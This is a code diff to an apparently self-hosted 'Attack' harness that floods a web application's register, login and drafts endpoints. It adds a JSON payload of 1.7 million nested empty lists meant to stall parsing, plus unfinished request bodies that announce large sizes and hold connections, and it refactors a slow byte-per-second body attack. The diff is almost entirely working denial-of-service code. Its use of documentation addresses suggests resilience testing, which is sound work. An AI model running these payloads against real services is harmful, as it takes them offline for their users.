@@ -23,8 +23,10 @@ from websockets.typing import Origin
 
 SOCKETS = 50
 SLOW_BODIES = 100
+UNFINISHED_BODIES = 100
 SOUNDS = 6
 MARKS = 15_000  # of each of two kinds: normalising them costs the square of their number
+EMPTY_LISTS = 1_700_000  # 5.1 MB
 JUNK = 900_000  # characters; the framework itself reads a million
 
 _NETWORK = "2001:db8:bad:1::"  # documentation addresses (RFC 3849)
@@ -54,6 +56,8 @@ class Attack:
             *[self.nonsense] * 2,
             *[self.flood] * SOCKETS,
             *[self.slow_body] * SLOW_BODIES,
+            self.empty_lists,
+            *[self.unfinished_body] * UNFINISHED_BODIES,
             *[self.hostile_sound] * SOUNDS,
         ]
         with suppress(TimeoutError):
@@ -73,6 +77,15 @@ class Attack:
         body = {"email": email, "password": "Een-lang-wachtwoord-1!", "firstName": name, "lastName": "Nieuw"}
         async with self._client() as client:
             await client.post("/api/auth/register", json=body)
+
+    async def empty_lists(self) -> None:
+        """Register with very many empty lists for an address: parsing them stops everybody else."""
+        body = b'{"email":[' + b"[]," * EMPTY_LISTS + b"[]]}"
+        headers = {"Content-Type": "application/json"}
+        async with self._client() as client:
+            for path in ("/api/auth/register", "/api/drafts"):
+                for cookie in ("", self.cookie):
+                    await client.post(path, content=body, headers={**headers, "Cookie": cookie})
 
     async def attachments(self) -> None:
         """Announce ten thousand million attachments, and send some."""
@@ -120,17 +133,36 @@ class Attack:
 
     async def slow_body(self) -> None:
         """Announce a body and send a byte of it a second."""
-        at = urlsplit(self.url)
-        reader, writer = await asyncio.open_connection(at.hostname, at.port)
+        reader, writer = await self._begin("/api/auth/login", 4_000)
         try:
-            head = f"POST /api/auth/login HTTP/1.1\r\nHost: {at.netloc}\r\nOrigin: {self.url}\r\n"
-            writer.write(f"{head}Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n".encode())
             while self.is_going_on() and not reader.at_eof():
                 writer.write(b" ")
                 await writer.drain()
                 await asyncio.sleep(1)
         finally:
             writer.close()
+
+    async def unfinished_body(self) -> None:
+        """Send a body but for its end, as large as a transcript and as a sign-in may be, and then nothing."""
+        for path, size in (("/api/drafts", 5_000_000), ("/api/auth/login", 65_000)):
+            reader, writer = await self._begin(path, size)
+            try:
+                writer.write(b" " * (size - 20_000))
+                await writer.drain()
+                async with asyncio.timeout(10):
+                    await reader.read()
+            except TimeoutError:
+                pass  # it is being held: the next one
+            finally:
+                writer.close()
+
+    async def _begin(self, path: str, size: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """Announce a body of so many bytes."""
+        at = urlsplit(self.url)
+        reader, writer = await asyncio.open_connection(at.hostname, at.port)
+        head = f"POST {path} HTTP/1.1\r\nHost: {at.netloc}\r\nOrigin: {self.url}\r\n"
+        writer.write(f"{head}Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n".encode())
+        return reader, writer
 
     async def hostile_sound(self) -> None:
         """Send a small file that is hours of work, from an account of the attacker's own."""
